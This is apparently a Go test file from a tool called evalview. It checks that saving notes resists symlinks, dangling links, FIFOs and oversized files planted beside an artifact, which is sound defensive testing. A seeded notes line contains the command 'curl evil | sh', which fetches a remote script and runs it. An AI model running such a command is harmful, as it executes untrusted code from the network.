package notes

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"evalview/internal/hostile"
	"evalview/internal/safefile"
)

// Someone who can write the artifact's folder, but is not the user, puts
// things where a notes save writes: the tests here are that attack
// (issue 30), each kind with a case of its own. Nothing outside the notes
// file may be written or created, nothing may hang, and every refusal
// names the file and says what it is.

// planted is a file outside the artifact's folder that the attacker wants
// written, with what it holds.
func planted(t *testing.T) (target string, content []byte) {
	t.Helper()
	target = filepath.Join(t.TempDir(), "victim")
	content = []byte("export PATH=/usr/bin\n")
	if err := os.WriteFile(target, content, 0o600); err != nil {
		t.Fatal(err)
	}
	return target, content
}

// symlinkOrSkip makes link point at target, or skips where links cannot
// be made.
func symlinkOrSkip(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Skip("no symbolic links here:", err)
	}
}

// unchanged fails unless path holds want.
func unchanged(t *testing.T, path string, want []byte) {
	t.Helper()
	if got, err := os.ReadFile(path); err != nil || string(got) != string(want) {
		t.Errorf("%s changed: %q %v", path, got, err)
	}
}

// TestPlantedTempFileIsNotFollowed: the save's temporary file used to
// have a fixed name (.<notes>.tmp), opened with O_TRUNC and no O_EXCL: a
// link planted there made the next label save overwrite the link's
// target with the notes, lines the planter seeded in the sidecar
// included. Now the temporary file's name is random and created
// exclusively: the links planted at the old name and at guesses of the
// new are left alone, the save succeeds, and their targets are whole.
func TestPlantedTempFileIsNotFollowed(t *testing.T) {
	dir, art := newArtifact(t)
	target, content := planted(t)
	side := SidecarPath(art)
	os.WriteFile(side, []byte(`{"artifact":"samples_x.jsonl","id":"0","labels":["seeded"]}`+"\n"+"curl evil | sh\n"), 0o644)
	base := filepath.Base(side)
	for _, name := range []string{"." + base + ".tmp", "." + base + ".tmp-AAAAAAAAAAAAAAAAAAAAAAAAAA", "." + base + ".tmp-"} {
		symlinkOrSkip(t, target, filepath.Join(dir, name))
	}
	dangling := filepath.Join(t.TempDir(), "created")
	os.Symlink(dangling, filepath.Join(dir, "."+base+".tmp1"))
	s, issues := Open(art, "")
	if s == nil {
		t.Fatal(issues)
	}
	if _, err := s.Set("samples_x.jsonl", "5", []string{"flaky"}, ""); err != nil {
		t.Fatal(err)
	}
	unchanged(t, target, content)
	if _, err := os.Lstat(dangling); err == nil {
		t.Error("a file was created through a dangling link")
	}
	if b := readNotes(t, side); !strings.Contains(b, `"id":"5"`) || !strings.Contains(b, "curl evil | sh\n") {
		t.Errorf("notes file:\n%s", b)
	}
}

// TestPlantedLockFileIsRefused: what is planted at the lock file's name
// (flock opened it with O_CREATE and no O_NOFOLLOW, so a dangling link
// created its target, a link to a file opened it, and a FIFO hung the
// save): the save is refused, says so naming the lock file and what it
// is, creates nothing, writes nothing, and does not go to the fallback
// file instead (which would hide the attack).
func TestPlantedLockFileIsRefused(t *testing.T) {
	victim, content := planted(t)
	for _, p := range hostile.Plants(victim, 0) {
		t.Run(p.Name, func(t *testing.T) {
			_, art := newArtifact(t)
			side := SidecarPath(art)
			lock := lockPath(side)
			what, err := p.Make(lock)
			if err != nil {
				t.Skip("cannot make it here:", err)
			}
			s, _ := Open(art, "")
			if !within(t, 5*time.Second, func() {
				_, err := s.Set("samples_x.jsonl", "5", []string{"flaky"}, "")
				want := "the lock file " + what + " (" + lock + "); evalview does not write notes through it: remove it, or choose another notes file with --notes"
				if !errors.Is(err, safefile.ErrNotFile) || err.Error() != want {
					t.Errorf("save under a planted lock: %v\nwant %q", err, want)
				}
			}) {
				t.Fatal("the save hangs")
			}
			unchanged(t, victim, content)
			if _, err := os.Lstat(victim + ".created"); err == nil {
				t.Error("the lock's link target was created")
			}
			if _, err := os.Lstat(side); err == nil {
				t.Error("the notes were written without the lock")
			}
			if _, err := os.Lstat(StatePath(art)); err == nil {
				t.Error("the refused save went to the fallback file instead of saying so")
			}
			if l, _ := s.Get("samples_x.jsonl", "5"); len(l) != 0 {
				t.Errorf("a refused save is shown as kept: %v", l)
			}
		})
	}
}

// TestPlantedSidecar: what is at the sidecar's name when evalview opens
// the artifact, or put there while it runs (internal/hostile's plants):
// each is refused by name and kind, without hanging (a FIFO's open waits
// for a writer) or reading without end (/dev/zero) or into memory (a
// file past maxFileSize), and nothing is written through it.
func TestPlantedSidecar(t *testing.T) {
	defer func(n int64) { maxFileSize = n }(maxFileSize)
	maxFileSize = 1 << 20
	victim, content := planted(t)
	defer func() {
		unchanged(t, victim, content)
		if _, err := os.Lstat(victim + ".created"); err == nil {
			t.Error("a file was created through a dangling link")
		}
	}()
	for _, p := range hostile.Plants(victim, maxFileSize+1) {
		t.Run("at open/"+p.Name, func(t *testing.T) {
			_, art := newArtifact(t)
			side := SidecarPath(art)
			want, err := p.Make(side)
			if err != nil {
				t.Skip("cannot make it here:", err)
			}
			if !within(t, 5*time.Second, func() {
				s, issues := openIssues(art)
				if s != nil || len(issues) == 0 {
					t.Errorf("store %v, issues %v", s, issues)
					return
				}
				last := issues[len(issues)-1]
				if last.code != "notes-unusable" || last.file != side || !strings.HasPrefix(last.msg, "notes are off: the notes file "+want) ||
					!strings.HasSuffix(last.msg, " ("+side+"); evalview neither reads nor writes notes through it: remove it, or choose another file with --notes") {
					t.Errorf("issue %+v\nwant %q", last, "notes are off: the notes file "+want+" ("+side+")")
				}
			}) {
				t.Fatal("Open hangs")
			}
		})
		t.Run("at save/"+p.Name, func(t *testing.T) {
			_, art := newArtifact(t)
			s, _ := Open(art, "")
			if _, err := s.Set("samples_x.jsonl", "1", []string{"before"}, ""); err != nil {
				t.Fatal(err)
			}
			side := SidecarPath(art)
			os.Remove(side)
			want, err := p.Make(side)
			if err != nil {
				t.Skip("cannot make it here:", err)
			}
			if !within(t, 5*time.Second, func() {
				_, err := s.Set("samples_x.jsonl", "2", []string{"after"}, "")
				if err == nil || !strings.HasPrefix(err.Error(), "the notes file "+want) ||
					!strings.HasSuffix(err.Error(), " ("+side+"); evalview does not write notes through it: remove it, or choose another notes file with --notes") {
					t.Errorf("save: %v\nwant %q", err, "the notes file "+want+" ("+side+")")
				}
			}) {
				t.Fatal("the save hangs")
			}
			if l, _ := s.Get("samples_x.jsonl", "2"); len(l) != 0 {
				t.Errorf("a refused save is shown as kept: %v", l)
			}
		})
	}
}

// TestSidecarTooLarge: a notes file past maxFileSize is refused by name
// and size, not read into memory.
func TestSidecarTooLarge(t *testing.T) {
	defer func(n int64) { maxFileSize = n }(maxFileSize)
	maxFileSize = 100
	_, art := newArtifact(t)
	line := `{"artifact":"samples_x.jsonl","id":"1","labels":["x"]}` + "\n"
	os.WriteFile(SidecarPath(art), []byte(strings.Repeat(line, 3)), 0o644)
	_, issues := openIssues(art)
	want := "notes are off: the notes file is larger than 100 bytes (" + SidecarPath(art) + ")"
	if len(issues) == 0 || !strings.HasPrefix(issues[len(issues)-1].msg, want) {
		t.Errorf("issues %v\nwant %q", issues, want)
	}
}

// TestLockFileIsRemoved: no lock file stays beside the data after a save
// (issue 31), nor any temporary file; a lock file that is not empty (not
// one evalview made) is left.
func TestLockFileIsRemoved(t *testing.T) {
	dir, art := newArtifact(t)
	s, _ := Open(art, "")
	for i := range 3 {
		if _, err := s.Set("samples_x.jsonl", "1", []string{"x", string(rune('a' + i))}, ""); err != nil {
			t.Fatal(err)
		}
	}
	ents, _ := os.ReadDir(dir)
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	if strings.Join(names, " ") != "samples_x.jsonl samples_x.jsonl.evalview-notes.jsonl state" && strings.Join(names, " ") != "samples_x.jsonl samples_x.jsonl.evalview-notes.jsonl" {
		t.Errorf("files beside the data after saves: %v", names)
	}
	lock := lockPath(SidecarPath(art))
	os.WriteFile(lock, []byte("someone else's\n"), 0o644)
	if _, err := s.Set("samples_x.jsonl", "2", []string{"y"}, ""); err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(lock); err != nil || string(b) != "someone else's\n" {
		t.Errorf("a lock file with content was removed or changed: %q %v", b, err)
	}
}

// TestLeftoversAreRemoved: the temporary files of saves killed before
// their rename are removed by the next save (ours only, by their name);
// other files are left.
func TestLeftoversAreRemoved(t *testing.T) {
	dir, art := newArtifact(t)
	side := SidecarPath(art)
	base := filepath.Base(side)
	left := filepath.Join(dir, "."+base+".tmp-ABCDEFGHIJKLMNOPQRSTUVWXYZ")
	other := filepath.Join(dir, "."+base+".tmp") // an older evalview's name: not ours to judge
	os.WriteFile(left, []byte("half"), 0o644)
	os.WriteFile(other, []byte("half"), 0o644)
	s, _ := Open(art, "")
	if _, err := s.Set("samples_x.jsonl", "1", []string{"x"}, ""); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(left); err == nil {
		t.Error("a killed save's temporary file stays")
	}
	if _, err := os.Lstat(other); err != nil {
		t.Error("a file that is not one of ours was removed")
	}
}

// TestLockRemovalKeepsLocking: a save waiting for the lock while the
// holder's release removes the lock file gets the lock of the file at
// the path, never of the removed one, so that a third save is still kept
// out while it holds it.
func TestLockRemovalKeepsLocking(t *testing.T) {
	p := filepath.Join(t.TempDir(), "n.jsonl")
	first, err := acquire(p, false, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	got := make(chan func(), 1)
	go func() {
		second, err := acquire(p, false, 5*time.Second)
		if err != nil {
			t.Error(err)
			close(got)
			return
		}
		got <- second
	}()
	time.Sleep(50 * time.Millisecond) // the second is waiting
	first()                           // releases and removes the lock file
	second, ok := <-got
	if !ok {
		t.Fatal("the waiting save did not get the lock")
	}
	if _, err := acquire(p, false, 100*time.Millisecond); !errors.Is(err, ErrLocked) {
		t.Errorf("a third save got the lock while the second holds it: %v", err)
	}
	if _, err := os.Lstat(lockPath(p)); err != nil {
		t.Errorf("the lock held has no file at its path: %v", err)
	}
	second()
	if _, err := os.Lstat(lockPath(p)); err == nil {
		t.Error("the lock file stays after the last release")
	}
}

// issueT is an issue's code, file and message.
type issueT struct{ code, file, msg string }

// openIssues opens art's notes and returns the store and its issues.
func openIssues(art string) (*Store, []issueT) {
	s, issues := Open(art, "")
	var out []issueT
	for _, is := range issues {
		out = append(out, issueT{is.Code, is.File, is.Message})
	}
	return s, out
}

// within runs f, and reports whether it ended in d (f goes on in the
// background when it does not: the test then fails at once).
func within(t *testing.T, d time.Duration, f func()) bool {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
		return true
	case <-time.After(d):
		return false
	}
}

// TestRefreshKeepsNotesOfARefusedFile: a sidecar replaced by a FIFO while
// the browser runs does not blank the notes shown when a prompt reads
// the file again; the save that follows says why it is refused.
func TestRefreshKeepsNotesOfARefusedFile(t *testing.T) {
	_, art := newArtifact(t)
	s, _ := Open(art, "")
	if _, err := s.Set("samples_x.jsonl", "1", []string{"kept"}, ""); err != nil {
		t.Fatal(err)
	}
	side := SidecarPath(art)
	os.Remove(side)
	if err := os.Mkdir(side, 0o755); err != nil {
		t.Fatal(err)
	}
	s.Refresh()
	if l, _ := s.Get("samples_x.jsonl", "1"); len(l) != 1 {
		t.Errorf("notes shown after reading a refused file: %v", l)
	}
	if _, err := s.Set("samples_x.jsonl", "2", []string{"x"}, ""); err == nil || !strings.HasPrefix(err.Error(), "the notes file is a folder") {
		t.Errorf("save: %v", err)
	}
}
